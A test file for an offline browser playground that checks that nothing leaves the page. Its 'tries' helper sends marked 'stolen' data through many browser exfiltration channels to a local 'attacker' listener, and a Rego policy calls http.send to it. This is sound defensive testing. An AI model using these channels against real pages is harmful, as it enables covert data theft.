// Nothing leaves the page once it says so: not what is typed, and not what code in the page, its worker or a policy
// would send.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { after, before, beforeEach, test } from 'node:test';

import { endless, playground, real, retype, said, until } from './page.js';

let play;
let attacker;
before(async () => {
  if (real.skip) return;
  play = await playground();
  attacker = await listener();
});
beforeEach(() => attacker?.forget());
after(async () => {
  await play?.stop();
  await attacker?.stop();
});

test('nobody is asked for anything while the page is used', real, async () => {
  const page = await closedPage('#example=sub2api/easy-4-formatted-body');
  const context = page.context();
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const asked = [];
  context.on('request', (request) => asked.push(request.url()));
  const before = play.requests.length;

  await retype(
    page,
    'The message as raw HTTP',
    'POST /hook HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"a": 1}',
  );
  await page.keyboard.press('Control+Enter');
  await until(async () => /reject/.test(await said(page)), 'a verdict');
  await page.getByLabel('Example', { exact: true }).selectOption('sub2api/easy-4-formatted-body');
  await page.getByRole('button', { name: 'Why does the signature not match?' }).click();
  await page.locator('.result-cause').first().waitFor();
  for (const select of ['kubernetes/privileged', 'sub2api/easy-4-formatted-body']) {
    await page.getByLabel('Example', { exact: true }).selectOption(select);
    await until(async () => /reject|fail/.test(await said(page)), 'a verdict');
    const tabs = page.getByRole('tab').and(page.locator(':visible'));
    for (let at = 0; at < (await tabs.count()); at += 1) await tabs.nth(at).click();
  }
  for (const mode of ['Deployment', 'Webhook']) await page.getByRole('button', { name: mode, exact: true }).click();
  for (const action of ['Sign', 'Verify']) await page.getByRole('button', { name: action, exact: true }).click();
  await page.getByRole('button', { name: 'Share' }).click();
  for (const copy of ['curl', 'CI step', 'Markdown']) {
    await page.getByRole('dialog').getByRole('button', { name: copy }).click();
    await page.getByRole('dialog').getByText('✓ Copied').waitFor();
  }
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Keys', exact: true }).click();
  await page.keyboard.press('Escape');
  for (const theme of ['dark', 'light']) await page.getByLabel('Theme').selectOption(theme);
  await page.getByRole('button', { name: '中文' }).click();
  await page.getByRole('button', { name: 'English' }).click();

  assert.deepEqual(
    asked.filter((url) => !/^(blob|data):/.test(url)),
    [],
  );
  assert.deepEqual(sent(before), []);
  await page.context().close();
});

test('every chunk is there before the network is closed', real, async () => {
  const page = await closedPage('#example=sub2api/section-2-minimal');
  const came = new Set(
    await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name.replace(/^.*\//, ''))),
  );
  const chunks = readdirSync(join(play.dist, 'assets')).filter((name) => name.endsWith('.js'));
  assert.ok(chunks.length > 5);
  assert.deepEqual(
    chunks.filter((name) => !came.has(name)),
    [],
  );
  await page.getByRole('button', { name: 'Deployment', exact: true }).click();
  const entry = {
    request: { method: 'POST', url: 'https://h.example/', headers: [], postData: { text: '{}' } },
    response: { status: 200, headers: [], content: { text: '{}' } },
  };
  await retype(
    page,
    'Documents: YAML or JSON',
    JSON.stringify({ log: { version: '1.2', creator: {}, entries: [entry] } }),
  );
  await until(async () => /^(pass|fail)/.test(await said(page)), 'a report of traffic');
  assert.equal(await page.locator('.banner:visible').count(), 0);
  await page.context().close();
});

test('the page says how to check it, and tries it', real, async () => {
  const page = await closedPage();
  const before = play.requests.length;
  await page.getByRole('button', { name: 'How to check it' }).click();
  await page.getByRole('button', { name: 'Try it now' }).click();
  await page.getByText('Refused, as promised').waitFor();
  assert.deepEqual(sent(before), []);
  await page.context().close();
});

test('the same code reaches whom it wants from a page without a policy', real, async () => {
  const page = await (await play.context()).newPage();
  await page.goto(`${attacker.url}open`);
  // The form leads the page away.
  await page.evaluate(tries, { url: attacker.url, inPage: true }).catch(() => undefined);
  const ways = [
    'fetch',
    'keepalive',
    'xhr',
    'socket',
    'events',
    'import.js',
    'nested',
    'beacon',
    'image',
    'style.css',
    'object',
    'font',
    'frame',
    'form',
  ];
  const named = (way) => attacker.heard().some((text) => / \/([\w.]+)\?stolen/.exec(text)?.[1] === way);
  await until(() => ways.every(named), 'all of them').catch(() =>
    assert.deepEqual(
      ways.filter((way) => !named(way)),
      [],
    ),
  );
  await page.context().close();
});

test('code in the page reaches nobody', real, async () => {
  const page = await closedPage();
  const before = play.requests.length;
  for (const url of [attacker.url, play.url]) {
    const through = await page.evaluate(tries, { url, inPage: true });
    assert.deepEqual(through, [], url);
  }
  await quiet(page, before);
});

test("code in the engine's worker reaches nobody, nor in the one after a killed run", real, async () => {
  const page = await closedPage('#example=policy/deny&rules=policy');
  const before = play.requests.length;
  const [first] = page.workers();
  for (const url of [attacker.url, play.url]) assert.deepEqual(await first.evaluate(tries, { url }), [], url);

  const gone = new Promise((resolve) => {
    first.once('close', resolve);
  });
  await retype(page, 'Policy, in Rego', endless('orders'));
  await until(async () => /was ended/.test(await said(page)), 'the end of the run');
  await gone;
  await retype(page, 'Policy, in Rego', 'package orders\n');
  const next = await until(() => page.workers()[0], 'a new worker');
  assert.notEqual(next, first);
  for (const url of [attacker.url, play.url]) assert.deepEqual(await next.evaluate(tries, { url }), [], url);
  await quiet(page, before);
});

// No policy binds WebRTC in any browser today: no code here knows it, and where policies run it does not exist.
test('nothing that no policy binds is in the code, nor in the worker', real, async () => {
  const page = await closedPage();
  assert.deepEqual(
    await page
      .workers()[0]
      .evaluate(() => ['RTCPeerConnection', 'open', 'document', 'localStorage'].filter((name) => name in globalThis)),
    [],
  );
  const scripts = readdirSync(join(play.dist, 'assets')).filter((name) => name.endsWith('.js'));
  const code = scripts.map((name) => readFileSync(join(play.dist, 'assets', name), 'utf8')).join('\n');
  assert.doesNotMatch(
    code,
    /RTCPeerConnection|window\.open\b|preconnect|dns-prefetch|location\.(assign|replace)|location(\.href)?\s*=(?!=)/,
  );
  await page.context().close();
});

test('a policy that calls http.send reaches nobody', real, async () => {
  const page = await closedPage('#example=policy/deny&rules=policy');
  const before = play.requests.length;
  await retype(
    page,
    'Policy, in Rego',
    'package orders\n\ndeny contains "sent" if http.send({"method": "get", "url": ' +
      `"${attacker.url}?policy"}).status_code == 200\n`,
  );
  await until(
    async () => /http\.send/.test(await page.locator('.pane-result').innerText()),
    'what is said of http.send',
  );
  await quiet(page, before);
});

test('without a server and without a network, the page opens and judges', real, async () => {
  const own = await playground();
  try {
    const page = await (await own.context()).newPage();
    await page.goto(own.url);
    await page.getByText('✓ works offline').waitFor();
    await own.stopServer();
    await page.context().setOffline(true);
    await page.reload();
    await page.getByText('✓ Nothing leaves this page').waitFor();
    await page.getByLabel('Example', { exact: true }).selectOption('sub2api/everything-wrong');
    await until(async () => /^reject/.test(await said(page)), 'a verdict');
    // In a tab that was never open, by a link.
    const other = await page.context().newPage();
    await other.goto(`${own.url}#example=kubernetes/privileged`);
    await until(async () => /^fail/.test(await said(other)), 'a report');
  } finally {
    await own.stop();
  }
});

/** A page that says that it is closed, and that its files are kept. */
async function closedPage(hash) {
  const page = await play.open(hash);
  await page.getByText('✓ Nothing leaves this page').waitFor();
  await page.getByText('✓ works offline').waitFor();
  return page;
}

/** What the server was asked since; the browser itself looks for a new service worker, whatever the page does. */
function sent(before) {
  return play.requests.slice(before).filter(({ url }) => url !== '/sw.js');
}

/** Nothing came, though the listener listens: the next that comes is what this test sends itself. */
async function quiet(page, before) {
  await page.context().close();
  assert.deepEqual(sent(before), []);
  assert.deepEqual(attacker.heard(), []);
  const control = await (await play.context()).newPage();
  await control.goto(`${attacker.url}control`);
  assert.match(attacker.heard()[0], /^GET \/control /);
  await control.context().close();
}

/**
 * Runs in the page or in a worker. Tries everything that could carry a byte, and gives the names of what did not fail.
 */
async function tries({ url, inPage = false }) {
  const at = (name) => `${url}${name}?stolen`;
  const socket = (name) => at(name).replace(/^http/, 'ws');
  const event = (target, good, bad) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, resolve);
      target.addEventListener(bad, reject);
      setTimeout(reject, 2000, new Error('no answer'));
    });
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  const ways = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'stolen' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', at('xhr'));
      const done = event(request, 'load', 'error');
      request.send('stolen');
      return done;
    },
    webSocket: () => event(new WebSocket(socket('socket')), 'open', 'error'),
    eventSource: () => event(new EventSource(at('events')), 'open', 'error'),
    import: () => import(at('import.js')),
    cache: async () => (await caches.open('stolen')).add(at('cache')),
    workerOfUrl: () => event(new Worker(at('worker.js')), 'message', 'error'),
    // A worker within, which must be bound as well.
    workerOfBlob: () =>
      event(
        new Worker(
          blob(
            `fetch(${JSON.stringify(at('nested'))}, { mode: 'no-cors' }).then(() => postMessage(1), () => { throw ` +
              `new Error('refused'); })`,
          ),
        ),
        'message',
        'error',
      ),
    webTransport: () => new WebTransport(at('transport').replace(/^http:/, 'https:')).ready,
  };
  const append =
    (name, attributes, good = 'load') =>
    () => {
      const element = Object.assign(document.createElement(name), attributes);
      const done = event(element, good, 'error');
      document.body.append(element);
      return done.finally(() => element.remove());
    };
  if (inPage) {
    Object.assign(ways, {
      beacon: () => {
        if (!navigator.sendBeacon(at('beacon'), 'stolen')) throw new Error('refused');
        return new Promise((_, reject) => {
          setTimeout(reject, 500);
        }); // it is true where it is only queued: the listener tells
      },
      image: append('img', { src: at('image') }),
      script: append('script', { src: at('script.js') }),
      module: append('script', { type: 'module', src: at('module.js') }),
      style: append('link', { rel: 'stylesheet', href: at('style.css') }),
      manifest: append('link', { rel: 'manifest', href: at('manifest') }),
      prefetch: append('link', { rel: 'prefetch', href: at('prefetch') }),
      preload: append('link', { rel: 'preload', as: 'fetch', href: at('preload') }),
      modulepreload: append('link', { rel: 'modulepreload', href: at('preload.js') }),
      video: append('video', { src: at('video') }, 'loadeddata'),
      object: append('object', { data: at('object') }),
      embed: append('embed', { src: at('embed') }),
      font: () => new FontFace('stolen', `url(${at('font')})`).load(),
      background: async () => {
        const element = document.body.appendChild(document.createElement('i'));
        element.style.backgroundImage = `url(${at('background')})`;
        element.getBoundingClientRect();
        element.remove();
        throw new Error('nobody says');
      },
      frame: async () => {
        const frame = document.createElement('iframe');
        frame.src = at('frame');
        document.body.append(frame);
        await new Promise((resolve) => {
          setTimeout(resolve, 2000);
        });
        frame.remove();
        throw new Error('nobody says');
      },
      form: async () => {
        const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post' });
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => {
          setTimeout(resolve, 300);
        });
        form.remove();
        throw new Error('nobody says');
      },
      serviceWorker: () => navigator.serviceWorker.register(at('sw.js').replace('?stolen', '?other')),
      sharedWorker: () => event(new SharedWorker(at('shared.js')).port, 'message', 'error'),
    });
  }
  const through = [];
  const attempt = async ([name, way]) => {
    try {
      await way();
      through.push(name);
    } catch {
      // As it should be.
    }
  };
  // A form leads the page away, and ends what is still on its way.
  const { form, ...others } = ways;
  await Promise.all(Object.entries(others).map(attempt));
  if (form) await attempt(['form', form]);
  return through;
}

/** Hears what is said on every connection, in whatever protocol. */
async function listener() {
  let all = [];
  const server = createServer((socket) => {
    const one = { text: '' };
    all.push(one);
    socket.on('error', () => undefined);
    socket.on('data', (bytes) => {
      one.text += bytes.toString('latin1');
      socket.end(
        'HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nContent-Type: ' +
          'text/plain\r\nConnection: close\r\n\r\nok',
      );
    });
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return {
    url: `http://127.0.0.1:${server.address().port}/`,
    // Of a frame that it refuses, the browser has opened a connection before, and says nothing on it.
    heard: () => all.map(({ text }) => text).filter((text) => text !== ''),
    forget: () => {
      all = [];
    },
    stop: () =>
      new Promise((resolve) => {
        server.close(resolve);
      }),
  };
}
